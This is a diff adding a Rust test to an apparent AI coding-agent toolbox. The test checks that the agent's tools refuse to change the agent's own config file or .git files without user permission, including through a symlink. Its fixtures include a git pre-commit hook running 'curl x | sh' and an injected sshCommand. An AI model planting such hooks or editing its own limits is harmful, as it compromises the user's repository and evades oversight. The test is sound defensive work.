@@ -712,3 +712,40 @@ fn the_index_sees_a_write_before_the_next_call() {
     let map = call(&tb, &s, "repo_map", json!({"focus": ["refund_everything"]}));
     assert!(map.text.contains("def refund_everything(self)"), "{}", map.text);
 }
+
+#[test]
+fn tack_toml_and_git_are_not_written_unless_the_user_allows_it() {
+    let dir = repo();
+    fs::write(dir.path().join("tack.toml"), "[run]\ntimeout_s = 30\n").unwrap();
+    fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
+    fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
+    std::os::unix::fs::symlink(".git/config", dir.path().join("innocent.txt")).unwrap();
+    let tb = toolbox(dir.path());
+    let session = Session::new();
+    let attempts = [
+        ("edit_file", json!({"path": "tack.toml", "old": "30", "new": "600"})),
+        ("write_file", json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n"})),
+        ("edit_file", json!({"path": "innocent.txt", "old": "[core]", "new": "[core]\nsshCommand = x"})),
+        (
+            "apply_patch",
+            json!({"patch": "*** Begin Patch\n*** Add File: .git/info/attributes\n+x\n*** End Patch"}),
+        ),
+    ];
+    for (name, args) in &attempts {
+        let obs = call(&tb, &session, name, args.clone());
+        assert!(
+            obs.is_error && obs.text.contains("are not changed through tack's tools"),
+            "{name}: {}",
+            obs.text
+        );
+    }
+    assert_eq!(read(&dir, "tack.toml"), "[run]\ntimeout_s = 30\n");
+    assert_eq!(read(&dir, ".git/config"), "[core]\n");
+    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
+
+    let config = Config { allow_protected_writes: true, ..Config::default() };
+    let allowed = Toolbox::new(dir.path(), config, Profile::Core, false).unwrap();
+    let obs = call(&allowed, &session, "edit_file", attempts[0].1.clone());
+    assert!(!obs.is_error, "{}", obs.text);
+    assert_eq!(read(&dir, "tack.toml"), "[run]\ntimeout_s = 600\n");
+}
